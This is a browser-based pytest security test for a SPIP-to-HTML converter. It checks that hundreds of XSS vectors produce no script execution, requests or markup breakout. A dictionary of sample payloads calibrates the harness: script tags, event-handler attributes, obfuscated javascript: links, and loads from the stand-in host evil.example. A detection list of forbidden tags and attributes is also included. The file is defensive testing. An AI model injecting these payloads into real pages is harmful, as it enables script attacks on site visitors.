"""A real browser shows the output for every attack: no script runs, no request is sent, nothing breaks out."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from spipconv import Profile, to_html
from tests.safety.test_attacks import shots

Error = pytest.importorskip("playwright.sync_api", reason="playwright is not installed").Error

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog, Route

pytestmark = pytest.mark.browser

_FILE = Path(__file__).parent.parent / "security" / "spip_xss.jsonl"
VECTORS: list[dict[str, str]] = [json.loads(line) for line in _FILE.read_text("utf-8").splitlines()]
PLACES: dict[str, Callable[[str], str]] = {
    "raw": lambda vector: vector,
    "strong": lambda vector: f"{{{{{vector}}}}}",
    "cell": lambda vector: f"|a|{vector}|\n|b|c|",
    "link text": lambda vector: f"[{vector}->https://example.org/]",
    "note": lambda vector: f"mot[[{vector}]]",
    "note name": lambda vector: f"mot[[<{vector}> note]]",
    "abbreviation": lambda vector: f"[mot|{vector}]",
    "caption": lambda vector: f"||{vector}|{vector}||\n|a|b|",
    "link around a table": lambda vector: (
        f'<a href="https://example.org/">x<table><tr><td>{vector}</td></tr></table></a>'
    ),
    "item": lambda vector: f"-* {vector}\n-* fin",
}
PROFILES: tuple[Profile, ...] = ("article", "comment")
# Relative addresses lead to this host; every request is intercepted, so it is never contacted.
SITE = "https://spip.test/"

# A page that a fragment would break by closing more than it opens.
AROUND = (
    "<section><table><tbody><tr><td><article><blockquote>",
    "</blockquote></article></td></tr></tbody></table></section>",
)

# Installed before the page is read: functions that a script would call record the call. Playwright's own code is
# exempt.
HOOKS = """(() => {
    const called = [];
    Object.defineProperty(window, "calledByScripts", {value: called});
    for (const name of ["alert", "confirm", "prompt", "print", "eval", "fetch", "open", "postMessage", "setTimeout"]) {
        const own = window[name];
        window[name] = function (...given) {
            if (!String(given[0]).includes("harness")) called.push(`${name}(${String(given[0]).slice(0, 80)})`);
            return name === "eval" || name === "setTimeout" ? own.apply(window, given) : undefined;
        };
    }
    for (const name of ["log", "info", "warn", "error", "debug"]) console[name] = () => called.push(`console.${name}`);
    navigator.sendBeacon = () => called.push("sendBeacon");
    XMLHttpRequest.prototype.open = () => called.push("XMLHttpRequest");
})()"""

# Run after the page is read: touch every element as a reader would. Links with http and similar schemes would only
# leave the page, and an invalid address (its protocol is ":") leads to an empty page.
TOUCH = """() => { /* harness */
    window.addEventListener("click", (event) => {
        const link = event.target.closest && event.target.closest("a[href]");
        if (link && /^(https?|mailto|ftp|tel|geo|news|sftp|sms|xmpp)?:$/.test(link.protocol)) event.preventDefault();
    }, true);
    for (const element of document.body.querySelectorAll("*")) {
        for (const name of ["pointerover", "mouseover", "mouseenter", "mousemove", "mousedown", "mouseup"])
            element.dispatchEvent(new MouseEvent(name, {bubbles: true, cancelable: true}));
        for (const name of ["focus", "focusin", "blur", "toggle"]) element.dispatchEvent(new Event(name));
        if (element.focus) element.focus();
        if (element.click) element.click();
    }
}"""

LOOK = """() => { /* harness */
    const found = [...window.calledByScripts];
    const forbidden = new Set(["script", "iframe", "frame", "object", "embed", "applet", "base", "meta", "link",
        "style", "form", "input", "button", "textarea", "select", "svg", "math", "template", "title"]);
    const addresses = new Set(["href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset",
        "xlink:href", "longdesc", "ping", "srcdoc", "manifest"]);
    const protocols = new Set(["http:", "https:", "mailto:", "ftp:", "tel:"]);
    const protocolsOfLinks = new Set([...protocols, "geo:", "news:", "sftp:", "sms:", "xmpp:"]);
    for (const element of document.querySelectorAll("body, body *")) {
        const name = element.localName;
        if (forbidden.has(name)) found.push(`<${name}>`);
        for (const {name: key, value} of element.attributes) {
            if (key.startsWith("on")) found.push(`<${name} ${key}>`);
            if (key === "autoplay") found.push(`<${name} autoplay>`);
            if (key === "style") found.push(`<${name} style>`);
            if (!addresses.has(key)) continue;
            let protocol = "";
            try { protocol = new URL(value, document.baseURI).protocol; } catch { continue; }
            const allowed = key === "href" ? protocolsOfLinks : protocols;
            if (!allowed.has(protocol)) found.push(`<${name} ${key}="${protocol}">`);
        }
    }
    const inner = document.querySelector("[data-cases]");
    const children = [...inner.children];
    let right = children.length === 2 * Number(inner.dataset.cases) && children.every((child, index) =>
        child.localName === (index % 2 ? "hr" : "div") && child.dataset.case === String(index >> 1));
    for (let node = inner; node !== document.documentElement; node = node.parentElement) {
        if (node !== inner && node.children.length !== 1) right = false;
        if ([...node.childNodes].some((child) => child.nodeType !== 1 && child.data.trim())) right = false;
    }
    if (!right) found.push("leaks out of its container");
    return found;
}"""


class Harness:
    """Shows fragments of HTML and reports what is wrong with them."""

    def __init__(self, browser: Browser, *, images: bool) -> None:
        self._images = images
        self._requests: list[str] = []
        self._context: BrowserContext = browser.new_context()
        self._context.set_default_timeout(30_000)
        self._context.route("**/*", self._refuse)
        self._context.add_init_script(HOOKS)

    def close(self) -> None:
        """Close its pages."""
        self._context.close()

    def look(self, fragments: Sequence[str]) -> list[str]:
        """Return everything that is wrong with a page of fragments, each in a container of its own."""
        body = "".join(
            [f'<div data-case="{n}">{fragment}</div><hr data-case="{n}">' for n, fragment in enumerate(fragments)]
        )
        self._requests = []
        events: list[str] = []

        def dismiss(dialog: Dialog) -> None:
            events.append(f"dialog: {dialog.message}")
            dialog.dismiss()

        page = self._context.new_page()
        page.on("pageerror", lambda error: events.append(f"error: {error.message}"))
        page.on("console", lambda message: events.append(f"console: {message.text}") if _is_said(message) else None)
        page.on("popup", lambda _: events.append("popup"))
        page.on("dialog", dismiss)
        page.set_content(
            f'<!DOCTYPE html><html><head><base href="{SITE}"></head>'
            f"<body>{AROUND[0]}<div data-cases={len(fragments)}>{body}</div>{AROUND[1]}</body></html>"
        )
        found: list[str] = []
        try:
            page.evaluate(TOUCH)
            # The effects of clicking a javascript: link and of missing pictures come later.
            page.wait_for_timeout(60)
            found = page.evaluate(LOOK)
        except Error as error:
            # The page has navigated away.
            found.append(f"leaves: {error.message}")
        page.close()
        return [*found, *events, *self._requests]

    def name_culprits(self, fragments: Sequence[str]) -> dict[int, list[str]]:
        """Return what is wrong with each fragment, by index."""

        def search(first: int, last: int) -> dict[int, list[str]]:
            found = self.look(fragments[first:last])
            if not found:
                return {}
            if last - first == 1:
                return {first: found}
            middle = (first + last) // 2
            return search(first, middle) | search(middle, last)

        return search(0, len(fragments)) if fragments else {}

    def _refuse(self, route: Route) -> None:
        request = route.request
        is_image = request.resource_type == "image" and request.method == "GET"
        if not (self._images and is_image and not request.is_navigation_request()):
            self._requests.append(f"request: {request.resource_type} {request.url}")
        route.abort()


def _is_said(message: Any) -> bool:
    """Return whether a console message comes from a script, not from the browser about requests or styles."""
    return not message.text.startswith(("Failed to load resource", "`float` property is not supported"))


@pytest.fixture(params=PROFILES)
def profile(request: pytest.FixtureRequest) -> Profile:
    """Return the profiles, one by one."""
    chosen: Profile = request.param
    return chosen


@pytest.fixture
def harness(browser: Browser, profile: Profile) -> Iterator[Harness]:
    """Return a harness for a profile: an author may show pictures, a stranger may cause no request at all."""
    made = Harness(browser, images=profile == "article")
    yield made
    made.close()


def test_there_are_attacks_to_show() -> None:
    assert len(VECTORS) > 500


@pytest.mark.parametrize("place", PLACES)
def test_no_attack_has_an_effect(harness: Harness, profile: Profile, place: str) -> None:
    shown = [to_html(PLACES[place](attack["vector"]), profile) for attack in VECTORS]
    culprits = harness.name_culprits(shown)
    assert {VECTORS[n]["id"]: (found, shown[n]) for n, found in culprits.items()} == {}


def test_no_attack_in_any_field_has_an_effect(harness: Harness, profile: Profile) -> None:
    texts = [shot.text for shot in shots(16) if shot.profile == profile]
    assert len(texts) > 1000
    for first in range(0, len(texts), 500):
        part = texts[first : first + 500]
        shown = [to_html(text, profile) for text in part]
        culprits = harness.name_culprits(shown)
        assert {part[n]: (found, shown[n]) for n, found in culprits.items()} == {}


UNSAFE = {
    "<script>alert(1)</script>": ("alert(1)", "<script>"),
    "<script>console.log(1)</script>": ("console.log",),
    "<script>eval('1')</script>": ("eval(1)",),
    "<script>fetch('/x')</script>": ("fetch(/x)",),
    "<script>throw new Error('x')</script>": ("error: x",),
    '<script src="https://evil.example/x.js"></script>': ("request: script https://evil.example/x.js",),
    '<img src="x" onerror="alert(1)">': ("alert(1)", "<img onerror>"),
    '<p onclick="confirm(1)">a</p>': ("confirm(1)", "<p onclick>"),
    '<p onmouseover="prompt(1)">a</p>': ("prompt(1)", "<p onmouseover>"),
    '<a href="#" onfocus="print()">a</a>': ("print(undefined)", "<a onfocus>"),
    '<a href="javascript:alert(1)">a</a>': ("alert(1)", '<a href="javascript:">'),
    '<a href=" jAva&#10;script:alert(1)">a</a>': ("alert(1)", '<a href="javascript:">'),
    '<a href="data:text/html,x">a</a>': ('<a href="data:">',),
    '<iframe src="https://evil.example/"></iframe>': ("<iframe>", "request: document https://evil.example/"),
    '<object data="https://evil.example/"></object>': ("<object>",),
    '<svg onload="alert(1)"></svg>': ("alert(1)", "<svg>", "<svg onload>"),
    '<link rel="stylesheet" href="https://evil.example/x.css">': ("request: stylesheet https://evil.example/x.css",),
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': ("request: document https://evil.example/",),
    '<p style="color: red">a</p>': ("<p style>",),
    "</div>": ("leaks out of its container",),
    "</table>": ("leaks out of its container",),
    "</blockquote>a": ("leaks out of its container",),
    "</div><p>a</p>": ("leaks out of its container",),
    "</div>words": ("leaks out of its container",),
    "<div>": ("leaks out of its container",),
    "<!-- ": ("leaks out of its container",),
    "<b title='": ("leaks out of its container",),
}


@pytest.mark.parametrize("unsafe", UNSAFE)
def test_the_harness_detects_unsafe_html(browser: Browser, unsafe: str) -> None:
    harness = Harness(browser, images=True)
    try:
        found = harness.look(["<p>a</p>", unsafe, "<p>b</p>"])
    finally:
        harness.close()
    assert set(UNSAFE[unsafe]) <= set(found)


def test_the_harness_names_the_unsafe_texts(browser: Browser) -> None:
    fragments = ["<p>a</p>"] * 5
    fragments[1], fragments[4] = "<p onclick='alert(1)'>a</p>", "</div>"
    harness = Harness(browser, images=False)
    try:
        culprits = harness.name_culprits(fragments)
    finally:
        harness.close()
    assert culprits == {1: ["alert(1)", "<p onclick>"], 4: ["leaks out of its container"]}


def test_the_harness_reports_a_picture_in_a_comment(browser: Browser) -> None:
    fragments = ['<img src="https://example.org/x.png" alt="">']
    for images, expected in ((False, ["request: image https://example.org/x.png"]), (True, [])):
        harness = Harness(browser, images=images)
        try:
            assert harness.look(fragments) == expected
        finally:
            harness.close()


def test_the_harness_reports_nothing_on_a_safe_page(harness: Harness, profile: Profile) -> None:
    text = "{{{Titre}}}\n\n-* [un->https://example.org/][[note]]\n-* [deux->#nb1] {{gras}}\n\n|{{a}}|{{b}}|\n|1|2|"
    assert harness.look([to_html(text, profile)] * 3) == []
